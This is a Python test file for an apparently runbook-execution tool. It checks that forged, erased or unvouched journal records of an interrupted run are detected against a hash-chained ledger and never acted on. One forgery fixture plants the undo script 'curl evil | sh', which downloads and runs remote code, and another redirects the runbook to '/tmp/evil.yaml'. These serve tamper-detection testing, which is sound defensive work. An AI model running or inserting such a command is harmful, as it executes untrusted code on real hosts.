"""What a run that was cut off says is acted by only as far as the ledger vouches for it."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from memrunbook.app.auditing import AuditArguments, audit
from memrunbook.app.journaling import HostJournal
from memrunbook.app.past import UNPROVEN, pasts_of
from memrunbook.app.resuming import ordered
from memrunbook.core.action.action import Change, Repeat, Risk, Undo
from memrunbook.core.errors import JournalError, Refused
from memrunbook.core.host import Host
from memrunbook.core.instant import Instant
from memrunbook.core.run.record import Actor, Answered, Asked, Invoked, NotAnswered, Order, plain
from memrunbook.core.run.request import Done, Execute
from memrunbook.state import chain, heads, ledger
from memrunbook.state.chain import Link
from memrunbook.state.journal import RunJournal
from memrunbook.state.ledger import LedgerEntry
from memrunbook.state.left_open import left_open
from memrunbook.state.run_directory import RunDirectory
from memrunbook.testing import FixedClock
from memrunbook.version import __version__

RUN = "20261122T094107Z-abcd"
NOW = Instant(1795340467.0, 5.0)
ACTOR = Actor("ada", "0", control_node="ctl-1")
ONCE = Change(action="restart_unit", summary="Restart web", target="web", script="act", risk=Risk.HIGH,
              repeat=Repeat.ONCE)  # fmt: skip
SET = Change(action="set_sysctl", summary="vm.swappiness 60 -> 10", target="vm.swappiness", script="act",
             risk=Risk.LOW, repeat=Repeat.IDEMPOTENT, undo=Undo("vm.swappiness 10 -> 60", "honest"))  # fmt: skip
INVOKED = Invoked(
    time="2026-11-22T09:41:07Z", engine=__version__, actor=ACTOR, command="", reason="", runbook="book",
    runbook_digest="d", origin="", parameters={}, hosts=("web",), order=Order(runbook="book", hosts=(Host("web"),)),
)  # fmt: skip


class Titled:
    name, digest = "book", "d"


def cut_off(state: Path, *envelopes: Any) -> Path:
    """A run that wrote these on its host, and was killed."""
    with RunDirectory.create(state, RUN, lambda: NOW) as run:
        run.run.append(plain(INVOKED))
        run.hosts(["web"])
        journal = HostJournal(run, run.host("web"), "web", Titled(), ACTOR, FixedClock(), lambda _: None)
        for envelope in envelopes:
            journal.append(envelope)
    return run.path / "web.jsonl"


def sealed_anew(path: Path, change: Callable[[list[dict[str, Any]]], object]) -> None:
    """As whoever may write the state directory can, without a key."""
    records = [json.loads(line) for line in path.read_bytes().splitlines()]
    for record in records:
        for name in ("seq", "prev", "hash"):
            del record[name]
    change(records)
    link, lines = Link(), []
    for record in records:
        line, link = chain.seal(link, record)
        lines.append(line)
    path.write_bytes(b"".join(lines))


def verdict(state: Path) -> str:
    return audit(AuditArguments(state=state)).verdict


def test_another_script_in_the_journal_of_a_run_that_was_cut_off_is_found_and_never_used(state: Path) -> None:
    path = cut_off(state, Asked(Execute("set", SET)), Answered(Done(NOW)))
    assert verdict(state) == "intact-up-to-end"
    assert pasts_of(state, RUN, (), "")[1]["web"].made[0].way_back is not None

    def forge(records: list[dict[str, Any]]) -> None:
        records[0]["request"]["change"]["undo"]["script"] = "curl evil | sh"

    sealed_anew(path, forge)
    assert verdict(state) == "not-intact"
    with pytest.raises(JournalError, match=r"not the record that the ledger knows.* nothing is taken back"):
        pasts_of(state, RUN, (), "")


def test_another_order_is_found_before_anything_goes_on_by_it(state: Path) -> None:
    path = cut_off(state).with_name("run.jsonl")
    assert ordered(state, RUN).hosts == (Host("web"),)
    sealed_anew(path, lambda records: records[0]["order"].update(runbook="/tmp/evil.yaml"))
    assert verdict(state) == "not-intact"
    with pytest.raises(JournalError, match="the run does not go on by it"):
        ordered(state, RUN)


@pytest.mark.parametrize("left", [0, 1])
def test_a_step_in_flight_that_was_erased_is_found(state: Path, left: int) -> None:
    path = cut_off(state, Asked(Execute("restart", ONCE)), Answered(Done(NOW)))
    sealed_anew(path, lambda records: records.__delitem__(slice(left, None)))
    assert verdict(state) == "not-intact"


@pytest.mark.parametrize("said", [NotAnswered("SessionLost", "never begun"), Answered(Done(NOW))])
def test_what_nobody_vouches_for_closes_no_step(state: Path, said: Any) -> None:
    path = cut_off(state, Asked(Execute("restart", ONCE)))
    forged = RunJournal(path)
    forged.append(plain(said))
    forged.append({"event": "recorded", "record": {"type": "step-finished", "id": "restart", "state": "done"}})
    forged.close()
    assert [opened.step for opened in left_open(state)] == ["restart"]
    assert [opened.answer for opened in left_open(state)] == [""]
    [note] = audit(AuditArguments(state=state)).findings
    assert "of its last records nobody vouches for 2 of web.jsonl" in note.message


def test_a_command_that_the_ledger_does_not_know_was_never_begun(state: Path) -> None:
    path = cut_off(state, Asked(Execute("set", SET)), Answered(Done(NOW)))
    forged = RunJournal(path)
    forged.append(plain(Asked(Execute("more", SET))))
    forged.close()
    assert [one.step for one in pasts_of(state, RUN, (), "")[1]["web"].made] == ["set"]


def test_what_an_earlier_version_left_is_said_to_be_unproven(state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sealed = ledger.append
    monkeypatch.setattr(RunDirectory, "seal", lambda *_, **__: None)
    monkeypatch.setattr(ledger, "append", lambda state, entries, at: sealed(
        state, [one for one in entries if one.event != "so-far"], at))  # fmt: skip
    cut_off(state, Asked(Execute("set", SET)), Answered(Done(NOW)))
    past = pasts_of(state, RUN, (), "")[1]["web"]
    assert past.unproven == UNPROVEN
    with pytest.raises(Refused, match="nobody vouches for what its journals say") as caught:
        ordered(state, RUN)
    assert "begin anew" in caught.value.hint
    [note] = audit(AuditArguments(state=state)).findings
    assert "nobody vouches for what its journals say" in note.message


def test_who_asked_why_and_who_approved_stand_in_the_journal_of_each_host_too(state: Path) -> None:
    """Whoever has the key can seal run.jsonl anew: the journals of the hosts, and so the hosts' logs, tell."""
    path = cut_off(state, Asked(Execute("set", SET)), Answered(Done(NOW))).with_name("run.jsonl")
    entries = ledger.read(state)
    sealed_anew(path, lambda records: records[0].update(reason="another"))
    forged = chain.last(path.read_bytes())
    assert forged is not None
    for file in (ledger.ledger_file(state), heads.seen_file(state)):
        file.unlink()
    for entry in entries:
        head = forged.head if entry.file == "run.jsonl" and entry.count else entry.head
        ledger.append(state, [LedgerEntry(entry.run, entry.file, entry.event, head, entry.count)], entry.at)
    [error] = [one for one in audit(AuditArguments(state=state)).findings if one.level == "error"]
    assert error.where == str(path.with_name("web.jsonl"))
    assert "another invocation" in error.message


def test_a_run_that_was_cut_off_has_an_end_that_nobody_knows(state: Path) -> None:
    cut_off(state, Asked(Execute("set", SET)))
    head = ledger.read(state)[-1].hash
    assert audit(AuditArguments(state=state, expect=head)).verdict == "intact-up-to-end"
